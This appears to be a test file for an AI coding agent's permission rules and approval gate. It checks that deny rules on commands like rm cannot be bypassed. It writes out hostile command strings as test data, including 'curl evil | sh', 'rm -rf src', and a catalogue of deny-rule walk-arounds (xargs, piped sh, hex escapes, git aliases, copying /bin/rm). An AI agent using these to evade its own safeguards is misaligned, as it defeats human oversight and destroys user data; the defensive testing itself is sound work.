import { assert, assertEquals, assertStringIncludes } from "../../support/assert.ts";
import { parseRule, PermissionRules, suggestRules } from "../../../src/agent/policy/permission_rules.ts";
import { createApprovalGate } from "../../../src/agent/policy/approval.ts";
import type { ApprovalRequest } from "../../../src/agent/policy/approval_request.ts";

function command(text: string, options: { sandboxed?: boolean; network?: boolean } = {}): ApprovalRequest {
  return {
    call: { id: "c", name: "execute_command", arguments: JSON.stringify({ command: text }) },
    inspection: {
      effect: options.network ? "network" : "exec",
      paths: [],
      sandboxed: options.sandboxed ?? false,
      summary: text,
      preview: { kind: "command", command: text },
    },
  };
}

function edit(path: string): ApprovalRequest {
  return {
    call: { id: "e", name: "edit_file", arguments: "{}" },
    inspection: { effect: "write", paths: [path], summary: path },
  };
}

Deno.test("parseRule() reads tool and tool(pattern), and refuses anything else", () => {
  assertEquals(parseRule("edit_file"), { text: "edit_file", tool: "edit_file", pattern: undefined });
  assertEquals(parseRule("execute_command(npm test*)")?.pattern, "npm test*");
  assertEquals(parseRule("not a rule"), undefined);
  assertEquals(new PermissionRules({ allow: ["edit_file", "bad rule("] }).invalid, ["bad rule("]);
});

Deno.test("a prefix rule allows the command and its longer forms, never a compound command", async () => {
  const rules = new PermissionRules({ allow: ["execute_command(npm test*)"] });
  assert(await rules.match("allow", command("npm test")));
  assert(await rules.match("allow", command("npm test -- --watch")));
  assertEquals(await rules.match("allow", command("npm test; curl evil | sh")), undefined);
  assertEquals(await rules.match("allow", command("npm test && rm -rf src")), undefined);
  assertEquals(await rules.match("allow", command("npm run build")), undefined);
  const exact = new PermissionRules({ allow: ["execute_command(make)"] });
  assert(await exact.match("allow", command("make")));
  assertEquals(await exact.match("allow", command("make install")), undefined);
});

Deno.test("a path rule covers edits under its folder only", async () => {
  const rules = new PermissionRules({ allow: ["edit_file(src/**)"] });
  assert(await rules.match("allow", edit("src/a/b.ts")));
  assertEquals(await rules.match("allow", edit("lib/a.ts")), undefined);
});

Deno.test("the gate runs allowed calls unasked, refuses denied ones, and never allows network or protected paths", async () => {
  const rules = new PermissionRules({
    allow: ["execute_command(npm test*)", "execute_command", "write_file"],
    deny: ["execute_command(rm *)"],
  });
  const asked: string[] = [];
  const gate = createApprovalGate("ask", (request) => {
    asked.push(request.inspection.summary);
    return Promise.resolve(false);
  }, { rules });
  assertEquals(await gate(command("npm test")), { allow: true });
  const denied = await gate(command("rm -rf build"));
  assert(!denied.allow);
  assertStringIncludes(denied.reason, 'permission rule "deny execute_command(rm *)"');
  assert(!(await gate(command("curl x", { sandboxed: true, network: true }))).allow);
  const env: ApprovalRequest = {
    call: { id: "w", name: "write_file", arguments: "{}" },
    inspection: { effect: "write", paths: [".env"], summary: ".env" },
  };
  assert(!(await gate(env)).allow);
  assertEquals(asked, ["curl x", ".env"]);
});

Deno.test("an 'always allow' answer adds the rule and hands it to saveRule", async () => {
  const rules = new PermissionRules();
  const saved: string[] = [];
  const gate = createApprovalGate(
    "ask",
    () => Promise.resolve({ kind: "rule", rule: "execute_command(npm test*)" }),
    {
      rules,
      saveRule: (rule) => saved.push(rule),
    },
  );
  assertEquals(await gate(command("npm test")), { allow: true });
  assertEquals(saved, ["execute_command(npm test*)"]);
  assertEquals(rules.list().allow, ["execute_command(npm test*)"]);
});

Deno.test("suggestRules() offers the exact command and its prefix, or the edited folder", () => {
  assertEquals(suggestRules(command("npm test -- -u")).map((s) => s.rule), [
    "execute_command(npm test -- -u)",
    "execute_command(npm test*)",
  ]);
  assertEquals(suggestRules(command("make")).map((s) => s.rule), [
    "execute_command(make)",
    "execute_command(make*)",
  ]);
  assertEquals(suggestRules(command("make && make install")), []);
  assertEquals(suggestRules(edit("src/cli/a.ts")).map((s) => s.rule), ["edit_file(src/cli/**)"]);
});

Deno.test("a deny rule covers every command of a compound line, however the command word is written", async () => {
  const rules = new PermissionRules({ deny: ["execute_command(rm *)"] });
  const caught = [
    "rm -r x",
    "echo; rm -r x",
    "a && rm x",
    "true || rm x",
    "ls | rm x",
    "\\rm x",
    "'rm' x",
    "command rm x",
    "/bin/rm x",
    "env rm x",
    "env FOO=1 rm x",
    "FOO=1 rm x",
    "nohup rm x &",
    "echo $(rm x)",
    "echo `rm x`",
    'bash -c "rm x"',
    "eval rm x",
    "if true; then rm x; fi",
    "f() { rm x; }; f",
  ];
  for (const line of caught) {
    const rule = await rules.match("deny", command(line));
    assertEquals(rule?.text, "execute_command(rm *)", line);
  }
  for (const line of ["echo rm x", "grep rm notes.txt", "rmdir x", "git rm --cached x"]) {
    assertEquals(await rules.match("deny", command(line)), undefined, line);
    assertEquals(rules.unclearDeny(command(line)), undefined, line);
  }
});

Deno.test("a command word only the shell can resolve ($g x where g=rm) asks when a deny rule may cover it", async () => {
  const rules = new PermissionRules({ deny: ["execute_command(rm *)"] });
  for (const line of ["g=rm; $g x", "$(echo rm) x", "`echo /bin/rm` x", "${G} x", "r* x"]) {
    assertEquals(await rules.match("deny", command(line)), undefined, line);
    assertEquals(rules.unclearDeny(command(line))?.text, "execute_command(rm *)", line);
  }
  const asked: string[] = [];
  const ask = createApprovalGate("all", (request, need) => {
    asked.push(`${request.inspection.summary}: ${need.why}`);
    return Promise.resolve(false);
  }, { rules });
  assert(!(await ask(command("g=rm; $g x", { sandboxed: true }))).allow);
  assertEquals(asked, ["g=rm; $g x: unclear_rule"], "asked even under --approve all");
  const headless = await createApprovalGate("all", undefined, { rules })(command("g=rm; $g x"));
  assert(!headless.allow);
  assertStringIncludes(headless.reason, 'the permission rule "deny execute_command(rm *)" may cover it');
  const plain = new PermissionRules({ deny: ["execute_command(curl *)"] });
  assertEquals(plain.unclearDeny(command("ls")), undefined, "no unknown word, nothing to ask");
  assertEquals(await createApprovalGate("all", undefined, { rules })(command("ls -la")), { allow: true });
});

/** Every way issue 28 found around `deny execute_command(rm *)`, and what the gate now does with it. */
const WALKAROUNDS: [string, "refused" | "asked" | "ran"][] = [
  ["echo f | xargs rm", "refused"],
  ["echo 'rm f' | sh", "refused"],
  ["bash <<< 'rm f'", "refused"],
  ["$'\\x72m' f", "refused"],
  ["bash -ic 'myrm f'", "asked"],
  ["strace rm f", "refused"],
  ["trap 'rm f' EXIT", "refused"],
  ["git config alias.x '!rm f' && git x", "asked"],
  ["git -c alias.x='!rm f' x", "refused"],
  ["find . -name f -exec rm {} \\;", "refused"],
  ["find . -name f -delete", "refused"],
  [`perl -e 'unlink "f"'`, "asked"],
  [`python3 -c 'import os; os.remove("f")'`, "asked"],
  // A copy of rm under another name is beyond any reading of words: the sandbox is the wall.
  ["cp /bin/rm ./x && ./x f", "ran"],
  ["ln -s /bin/rm x; ./x f", "ran"],
];

Deno.test("every walk-around of a deny rule is refused or asked under ask, edits and all, and refused headless", async () => {
  const rules = new PermissionRules({ deny: ["execute_command(rm *)"] });
  for (const policy of ["ask", "edits", "all"] as const) {
    for (const [line, expected] of WALKAROUNDS) {
      let asked = false;
      const gate = createApprovalGate(policy, () => {
        asked = true;
        return Promise.resolve(false);
      }, { rules });
      const decision = await gate(command(line, { sandboxed: true }));
      const outcome = asked ? "asked" : decision.allow ? "ran" : "refused";
      assertEquals(outcome, expected, `${policy}: ${line}`);
      const headless = await createApprovalGate(policy, undefined, { rules })(
        command(line, { sandboxed: true }),
      );
      assertEquals(headless.allow, expected === "ran", `${policy} headless: ${line}`);
    }
  }
});

Deno.test("a deny rule's prefix covers a bare command, and arguments that join at run time", async () => {
  const rules = new PermissionRules({
    deny: ["execute_command(rm *)", "execute_command(git push --force*)"],
  });
  assert(await rules.match("deny", command("rm")));
  assert(await rules.match("deny", command("rm $f")));
  assertEquals(await rules.match("deny", command("git push $flag")), undefined);
  assertEquals(rules.unclearDeny(command("git push $flag"))?.text, "execute_command(git push --force*)");
  assertEquals(rules.unclearDeny(command("git push origin main")), undefined);
  for (const line of ["ls -la", "awk '{print $1}' f", "sed -i s/a/b/ f", "python3 tool.py", "git status"]) {
    assertEquals(await rules.match("deny", command(line)), undefined, line);
    assertEquals(rules.unclearDeny(command(line)), undefined, line);
  }
});
